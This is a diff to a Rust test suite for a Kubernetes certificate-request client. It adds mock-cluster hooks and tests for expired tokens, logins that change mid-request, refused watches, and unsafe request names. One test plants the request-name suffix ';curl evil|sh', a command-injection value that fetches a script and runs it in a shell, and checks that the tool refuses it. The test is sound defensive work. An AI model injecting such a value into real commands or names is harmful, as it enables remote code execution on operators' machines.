@@ -49,6 +49,12 @@ struct ClusterState {
     created: AtomicUsize,
     /// Runs once, before the next request is signed.
     before_signing: Mutex<Option<Box<dyn FnOnce() + Send>>>,
+    /// Runs once, before the next answer about the user.
+    before_review: Mutex<Option<Box<dyn FnOnce() + Send>>>,
+    /// Whether watches are refused, as those with an expired token are.
+    refuses_watches: AtomicBool,
+    /// The end of the names of requests.
+    suffix: Mutex<&'static str>,
     /// Whether users may create requests.
     allows: AtomicBool,
 }
@@ -58,6 +64,9 @@ impl ClusterState {
         let (path, query) = request.target.split_once('?').unwrap_or((&request.target, ""));
         match (request.method.as_str(), path) {
             ("POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews") => {
+                if let Some(event) = self.before_review.lock().unwrap().take() {
+                    event();
+                }
                 json_reply(201, &json!({"status": {"userInfo": *self.user.lock().unwrap()}}))
             }
             ("POST", CSRS) if !self.allows.load(Ordering::SeqCst) => json_reply(
@@ -69,10 +78,17 @@ impl ClusterState {
             ("POST", CSRS) => {
                 let mut object: Value = serde_json::from_slice(&request.body).unwrap();
                 let number = self.created.fetch_add(1, Ordering::SeqCst);
-                object["metadata"] =
-                    json!({"name": format!("portcullis-{number}"), "uid": format!("uid-{number}")});
+                let name = format!("portcullis-{number}{}", self.suffix.lock().unwrap());
+                object["metadata"] = json!({"name": name, "uid": format!("uid-{number}")});
                 self.requests.lock().unwrap().push(object.clone());
                 json_reply(201, &object)
+            }
+            ("GET", CSRS) if query.contains("watch") && self.refuses_watches.load(Ordering::SeqCst) => {
+                json_reply(
+                    401,
+                    &json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": "Unauthorized",
+                    "reason": "Unauthorized", "code": 401}),
+                )
             }
             ("GET", CSRS) if query.contains("watch") => {
                 Ok(http::Response::new(http_body_util::BodyExt::boxed(Silence)))
@@ -180,6 +196,9 @@ impl User {
             requests: Mutex::default(),
             created: AtomicUsize::new(0),
             before_signing: Mutex::default(),
+            before_review: Mutex::default(),
+            refuses_watches: AtomicBool::new(false),
+            suffix: Mutex::new(""),
             allows: AtomicBool::new(true),
         });
         let answers = Arc::clone(&state);
@@ -403,6 +422,85 @@ async fn a_certificate_belongs_to_its_login() {
     user.login().remove().unwrap();
     let error = user.ask().await.unwrap_err();
     assert!(matches!(error, CertificateError::Login(LoginError::LoginRequired(_))), "{error}");
+}
+
+/// The certificate is of the login that its token came from, also if another user logs in while the cluster answers.
+#[tokio::test]
+async fn another_login_meanwhile_gets_no_certificate_of_this_user() {
+    let user = User::new().await;
+    let login = user.login();
+    let log_in = move || {
+        let mut tokens = login.read().unwrap().unwrap();
+        tokens.subject = Some("bob".to_owned());
+        login.write(&tokens).unwrap();
+    };
+    *user.cluster.state.before_review.lock().unwrap() = Some(Box::new(log_in));
+    user.ask().await.unwrap_err();
+    for entry in user.login().certificates().unwrap() {
+        let kept = entry.read_certificate().unwrap().unwrap();
+        assert_ne!(kept.subject.as_deref(), Some("bob"));
+    }
+}
+
+#[tokio::test]
+async fn an_old_certificate_is_no_bridge_beyond_its_end_or_its_login() {
+    let user = User::new().await;
+    user.ask().await.unwrap();
+    user.setup.pass(VALIDITY - 60);
+    user.sign(Signing::OtherUser);
+    // It expires while the request waits.
+    let time = Arc::clone(&user.setup.time);
+    let pass = move || drop(time.fetch_add(120, Ordering::SeqCst));
+    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(pass));
+    user.ask().await.unwrap_err();
+    // The user logs out while the request waits.
+    user.sign(Signing::Good);
+    user.ask().await.unwrap();
+    user.setup.pass(VALIDITY - 60);
+    user.sign(Signing::OtherUser);
+    let login = user.login();
+    let log_out = move || drop(login.remove_login().unwrap());
+    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(log_out));
+    user.ask().await.unwrap_err();
+}
+
+/// The watch of a request is renewed, and an expired token is refused then: the request still waits.
+#[tokio::test]
+async fn a_token_that_expires_while_the_request_waits_leaves_it_pending() {
+    let user = User::new().await;
+    user.sign(Signing::Nothing);
+    user.cluster.state.refuses_watches.store(true, Ordering::SeqCst);
+    let error = user.ask().await.unwrap_err();
+    assert!(matches!(error, CertificateError::Cluster(_)), "a valid token is refused: {error}");
+    let time = Arc::clone(&user.setup.time);
+    let pass = move || drop(time.fetch_add(3600, Ordering::SeqCst));
+    *user.cluster.state.before_signing.lock().unwrap() = Some(Box::new(pass));
+    let error = user.ask().await.unwrap_err();
+    assert!(matches!(error, CertificateError::Pending { .. }), "{error}");
+}
+
+#[tokio::test]
+async fn no_request_is_made_that_cannot_be_kept() {
+    let user = User::new().await;
+    user.ask().await.unwrap();
+    let [entry] = user.login().certificates().unwrap().try_into().unwrap();
+    entry.remove().unwrap();
+    // What cannot be replaced by a file.
+    std::fs::create_dir_all(entry.file("json").join("in the way")).unwrap();
+    for _ in 0..2 {
+        user.ask().await.unwrap_err();
+    }
+    assert_eq!(user.created(), 1, "that of before");
+}
+
+/// The name is part of the commands that are printed.
+#[tokio::test]
+async fn a_request_with_a_name_for_a_shell_is_refused() {
+    let user = User::new().await;
+    *user.cluster.state.suffix.lock().unwrap() = ";curl evil|sh";
+    user.sign(Signing::Nothing);
+    let error = user.ask_with(false, SOON).await.unwrap_err().to_string();
+    assert!(error.contains("a request of the name") && !error.contains("approve"), "{error}");
 }
 
 #[tokio::test]
